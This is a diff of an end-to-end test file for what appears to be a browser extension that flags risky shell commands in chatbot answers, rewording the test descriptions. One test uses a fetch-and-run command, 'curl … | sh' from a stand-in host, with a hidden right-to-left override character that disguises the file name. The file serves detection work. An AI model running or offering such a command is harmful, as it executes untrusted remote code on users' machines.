@@ -27,8 +27,8 @@ const badge = (): Promise<{ left: number; top: number } | null> =>
     "const { left, top } = root.querySelector('.sign').getBoundingClientRect(); return { left, top };",
   );
 
-describe("an answer whose elements the site renders again", () => {
-  it("is marked in the new ones", async () => {
+describe("an answer that the site renders again", () => {
+  it("is marked in the new elements", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate((selector) => {
       const old = document.querySelector(selector)!;
@@ -45,7 +45,7 @@ describe("an answer whose elements the site renders again", () => {
     ).toBe(true);
   });
 
-  it("is gone while it is not in the list, and comes back with it", async () => {
+  it("is removed while it is not in the list, and comes back with it", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate((selector) => {
       const article = document.querySelector(selector)!.closest("article")!;
@@ -61,7 +61,7 @@ describe("an answer whose elements the site renders again", () => {
     expect(await marked(page)).toBe(PIPE);
   });
 
-  it("keeps its badge where it is moved in one go", async () => {
+  it("keeps its badge if it is moved in one step", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate(
       (selector) =>
@@ -75,7 +75,7 @@ describe("an answer whose elements the site renders again", () => {
     expect(await marked(page)).toBe(PIPE);
   });
 
-  it("is distinguished from a hidden alternative of the same identity", async () => {
+  it("is distinguished from a hidden alternative with the same identity", async () => {
     await open([`<div hidden>${turn({ id: "a1", html: "<p>Another try.</p>" })}</div>`, ANSWER]);
     // What is hidden is far from being seen, and has no sign.
     await ui.until((labels) => labels.length === 1 && labels[0] === FOUND);
@@ -87,8 +87,8 @@ describe("an answer whose elements the site renders again", () => {
   });
 });
 
-describe("the page", () => {
-  it("comes back from the history", async () => {
+describe("a page", () => {
+  it("works after returning in the history", async () => {
     at.site.pages.set("/c/2", conversation([turn({ id: "b1", html: "<p>Hello</p>" })]));
     await ui.untilLabel(FOUND);
     await page.goto("https://chatgpt.com/c/2");
@@ -99,7 +99,7 @@ describe("the page", () => {
     await expect.poll(() => marked(page)).toBe(PIPE);
   });
 
-  it("is left for the history cache and shown again: everything is asked again", async () => {
+  it("has its answers assessed again after it is restored from the back-forward cache", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate(() =>
       window.dispatchEvent(new PageTransitionEvent("pagehide", { persisted: true })),
@@ -112,7 +112,7 @@ describe("the page", () => {
     expect(await marked(page)).toBe(PIPE);
   });
 
-  it("shows another conversation without loading", async () => {
+  it("can show another conversation without loading", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate(() => {
       history.pushState({}, "", "/c/9");
@@ -123,7 +123,7 @@ describe("the page", () => {
     expect(await marked(page)).toBe("");
   });
 
-  it("moves its answers: the badge goes along", async () => {
+  it("can move its answers, and the badges move with them", async () => {
     await ui.untilLabel(FOUND);
     const before = await badge();
     await page.evaluate(
@@ -134,7 +134,7 @@ describe("the page", () => {
       .toBeGreaterThan(50);
   });
 
-  it("throws the extension's element away: it comes back with the next answer", async () => {
+  it("can remove the extension's element, which is added again with the next answer", async () => {
     await ui.untilLabel(FOUND);
     await page.evaluate(() => {
       document.querySelector("[data-curlew]")!.remove();
@@ -149,7 +149,7 @@ describe("the page", () => {
   });
 });
 
-describe("a conversation of ten times the answers", () => {
+describe("a conversation with ten times as many answers", () => {
   /** How often functions of the content script are called while something happens to the page: no clock, and no other work counts. */
   async function callsDuring(work: () => Promise<unknown>): Promise<number> {
     const session = await page.context().newCDPSession(page);
@@ -200,7 +200,7 @@ describe("a conversation of ten times the answers", () => {
     return { scroll, stream, leave };
   }
 
-  it("asks for hardly more work while it is scrolled and written on, and for each answer once when it is left", async () => {
+  it("causes hardly more work during scrolling and writing, and one request for each answer", async () => {
     const [few, many] = [await callsWith(10), await callsWith(100)];
     expect(many.scroll / few.scroll).toBeLessThan(5);
     expect(many.stream / few.stream).toBeLessThan(4);
@@ -209,7 +209,7 @@ describe("a conversation of ten times the answers", () => {
 });
 
 describe("an answer near the visible part", () => {
-  it("is read before it is seen, also where not the window scrolls", async () => {
+  it("is read before it is visible, also if an element scrolls instead of the window", async () => {
     await open([question("u1", "How?")]);
     await page.evaluate((html) => {
       document.body.style.height = "100vh";
@@ -229,7 +229,7 @@ describe("an answer near the visible part", () => {
 });
 
 describe("a person", () => {
-  it("comes to an answer far below: it is read", async () => {
+  it("can scroll to an answer far below, which is then read", async () => {
     await open([ANSWER, FAR, turn({ id: "a2", html: `<p><code>${PIPE}</code></p>` })]);
     await ui.untilLabel(FOUND);
     // Nothing is done for it before it comes near.
@@ -240,7 +240,7 @@ describe("a person", () => {
     await ui.untilPanel((text) => text.includes(PIPE));
   });
 
-  it("keeps the focus in the panel when the site changes what is no text", async () => {
+  it("keeps the focus in the panel when the site changes something other than text", async () => {
     await ui.untilLabel(FOUND);
     await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
@@ -253,7 +253,7 @@ describe("a person", () => {
     expect(await focus()).toBe("Show in the answer");
   });
 
-  it("sees characters that hide in a command", async () => {
+  it("sees invisible characters of a command", async () => {
     const text = "curl https://x.example/\u202egpj.sh | sh";
     await open([turn({ id: "a1", html: `<p><code>${text}</code></p>` })]);
     await ui.untilLabel(FOUND);
@@ -262,7 +262,7 @@ describe("a person", () => {
     expect(await marked(page)).toBe(text);
   });
 
-  it("is led to the line of a finding, wherever in a long block it stands", async () => {
+  it("is shown the line of a finding anywhere in a long block", async () => {
     const lines = Array.from({ length: 200 }, (_, index) =>
       index === 150 ? `${"true && ".repeat(60)}${PIPE}${" && true".repeat(60)}` : `echo ${index}`,
     ).join("\n");
@@ -300,7 +300,7 @@ describe("a person", () => {
       .toMatchObject({ left: 2 });
   });
 
-  it("sees the finding beside the panel in a narrow window, too", async () => {
+  it("sees the finding next to the panel also in a narrow window", async () => {
     await page.setViewportSize({ width: 360, height: 640 });
     await open([question("u1", "How?"), FAR, ANSWER, FAR]);
     await page.setViewportSize({ width: 360, height: 640 });
